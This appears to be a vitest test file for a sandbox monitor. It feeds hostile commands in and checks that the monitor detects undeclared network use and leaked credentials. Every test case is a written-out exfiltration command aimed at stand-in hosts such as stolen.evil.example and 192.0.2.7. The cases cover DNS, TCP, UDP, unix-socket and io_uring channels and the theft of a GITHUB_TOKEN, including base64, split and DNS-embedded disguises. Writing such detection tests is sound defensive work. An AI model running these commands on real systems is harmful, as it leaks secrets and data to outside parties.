import type { NetworkAttempt } from '@drylane/proto/evidence';
import type { Rehearsal } from '@drylane/proto/rehearsal';
import { expect } from 'vitest';
import { family } from './pair.ts';

const DECLARED = { network: ['api.github.com:443'], exits: [0, 6, 7] };
const ASK_GITHUB = 'curl -s --max-time 5 https://api.github.com/x';

/** An address of the range that RFC 5737 keeps for documentation. */
const NOBODY = '192.0.2.7';

const QUERY = `python3 -c '
import socket
q = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06stolen\\x04evil\\x07example\\0\\0\\x01\\0\\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))'`;

const OWN_SERVER = (
  kind: 'SOCK_STREAM' | 'SOCK_DGRAM',
  family: string,
  address: string,
): string => `python3 -c '
import socket
s = socket.socket(socket.${family}, socket.${kind}); s.bind(${address})
if socket.${kind} == socket.SOCK_STREAM: s.listen()
c = socket.socket(socket.${family}, socket.${kind}); c.connect(s.getsockname())
if socket.${kind} == socket.SOCK_DGRAM: c.send(b"x")'`;

const python = (text: string): string => `python3 -c '${text}'; true`;

/** What must be among the attempts that were seen; and nothing hung. */
const seen =
  (...attempts: Partial<NetworkAttempt>[]) =>
  ({ evidence }: Rehearsal) => {
    for (const attempt of attempts) expect(evidence.network).toContainEqual(expect.objectContaining(attempt));
    expect(evidence).toMatchObject({ timed_out: false, complete: true });
  };

family('network', (hostile) => {
  const undeclared = { finds: ['undeclared-network'] };
  const named = { under: DECLARED, control: ASK_GITHUB, controlVerdict: 'hold' as const, ...undeclared };
  const dns = (program: string) =>
    seen({ protocol: 'dns', host: 'stolen.evil.example', declared: false, program, step: 0 });
  const resolved = {
    curl: 'curl -s http://stolen.evil.example/; true',
    getent: 'getent hosts stolen.evil.example; true',
    bash: 'exec 3<>/dev/tcp/stolen.evil.example/80; true',
    python3: python('import urllib.request; urllib.request.urlopen("http://stolen.evil.example/")'),
    git: 'git clone -q http://stolen.evil.example/x.git src/x; true',
    node: 'node -e \'fetch("http://stolen.evil.example/").catch(() => 0)\'',
    perl: 'perl -MSocket -e \'inet_aton("stolen.evil.example")\'',
  };
  for (const [program, attack] of Object.entries(resolved)) {
    // git resolves in a helper program of its own.
    const by = program === 'git' ? 'git-remote-http' : program;
    hostile('exfiltration over DNS', { ...named, attack, denied: dns(by) }, program);
  }
  hostile('exfiltration over DNS', { ...named, attack: QUERY, denied: dns('python3') }, 'a query by hand');

  const tcp = (program: string) =>
    seen({ protocol: 'tcp', address: NOBODY, port: 80, declared: false, program, step: 0 });
  const ownServer = { control: OWN_SERVER('SOCK_STREAM', 'AF_INET', '("127.0.0.1", 0)'), ...undeclared };
  const connected = {
    curl: `curl -s http://${NOBODY}/; true`,
    bash: `echo stolen > /dev/tcp/${NOBODY}/80; true`,
    python3: python(`import socket; socket.create_connection(("${NOBODY}", 80))`),
  };
  for (const [program, attack] of Object.entries(connected))
    hostile('exfiltration over TCP', { ...ownServer, attack, denied: tcp(program) }, program);
  hostile(
    'exfiltration over TCP',
    {
      ...ownServer,
      attack: python(`import socket; socket.socket(socket.AF_INET6).connect(("2001:db8::7", 80))`),
      denied: seen({ protocol: 'tcp', address: '2001:db8::7', port: 80, program: 'python3' }),
    },
    'IPv6',
  );
  hostile(
    'exfiltration over TCP',
    {
      ...ownServer,
      attack: python('import socket; socket.create_connection(("127.0.0.1", 2375))'),
      denied: seen({ protocol: 'tcp', address: '127.0.0.1', port: 2375, program: 'python3' }),
    },
    'a service of the host itself',
  );

  const udp = (program: string) =>
    seen({ protocol: 'udp', address: NOBODY, port: 514, declared: false, program, step: 0 });
  const ownDatagrams = { control: OWN_SERVER('SOCK_DGRAM', 'AF_INET', '("127.0.0.1", 0)'), ...undeclared };
  const sent = {
    bash: `echo stolen > /dev/udp/${NOBODY}/514; true`,
    python3: python(
      `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("${NOBODY}", 514))`,
    ),
  };
  for (const [program, attack] of Object.entries(sent))
    hostile('exfiltration over UDP', { ...ownDatagrams, attack, denied: udp(program) }, program);

  const ownSocket = {
    control: `${OWN_SERVER('SOCK_STREAM', 'AF_UNIX', '"src/s"')}; rm src/s`,
    ...undeclared,
  };
  const unix = (address: string) => seen({ protocol: 'unix', address, declared: false, program: 'python3' });
  hostile(
    'exfiltration over unix sockets',
    {
      ...ownSocket,
      attack: python('import socket; socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket")'),
      denied: unix('/run/dbus/system_bus_socket'),
    },
    'by path',
  );
  hostile(
    'exfiltration over unix sockets',
    {
      ...ownSocket,
      attack: python('import socket; socket.socket(socket.AF_UNIX).connect("\\0/containerd-shim/x.sock")'),
      denied: unix('@/containerd-shim/x.sock'),
    },
    'abstract',
  );

  hostile('exfiltration over io_uring', {
    control: 'python3 -c "import select; select.epoll().close()"',
    attack: `python3 -c 'import ctypes, sys; sys.exit(ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120)) < 0)'`,
    denied: ({ evidence }) => expect(evidence.exit_code).toBe(1),
  });

  hostile('exfiltration of a credential', {
    under: { ...DECLARED, credentials: ['GITHUB_TOKEN'] },
    control: `${ASK_GITHUB} -H "Authorization: Bearer $GITHUB_TOKEN"`,
    controlVerdict: 'hold',
    attack: `${ASK_GITHUB}; curl -s "https://evil.example/?t=$GITHUB_TOKEN"`,
    finds: ['stripped-capability', 'undeclared-network', 'canary-leak'],
    denied: ({ evidence }) => {
      const attempts = evidence.network.map(({ step, host, declared }) => [step, host, declared]);
      expect(attempts).toEqual([
        [0, 'api.github.com', true],
        [1, 'evil.example', false],
      ]);
      expect(evidence.canaries.map(({ credential, step }) => [credential, step])).toContainEqual([
        'GITHUB_TOKEN',
        1,
      ]);
    },
  });
  const disguises = {
    'in output': 'echo $GITHUB_TOKEN',
    'in base64': 'echo $GITHUB_TOKEN | base64',
    reversed: 'echo $GITHUB_TOKEN | rev',
    'in a file': 'echo $GITHUB_TOKEN > src/one',
    'in two writes': 'echo $GITHUB_TOKEN | head -c 20; sleep 0.2; echo $GITHUB_TOKEN | tail -c +21',
    'in arguments': '/bin/true $GITHUB_TOKEN',
    'in another variable': 'TAKEN=$GITHUB_TOKEN /bin/true',
    'in a name that is asked for': 'getent hosts $GITHUB_TOKEN.evil.example; true',
  };
  for (const [variant, attack] of Object.entries(disguises))
    hostile(
      'exfiltration of a credential',
      {
        under: { ...DECLARED, credentials: ['GITHUB_TOKEN'] },
        control: '[ -n "$GITHUB_TOKEN" ]',
        controlVerdict: 'hold',
        attack,
        finds: ['canary-leak'],
      },
      variant,
    );
});
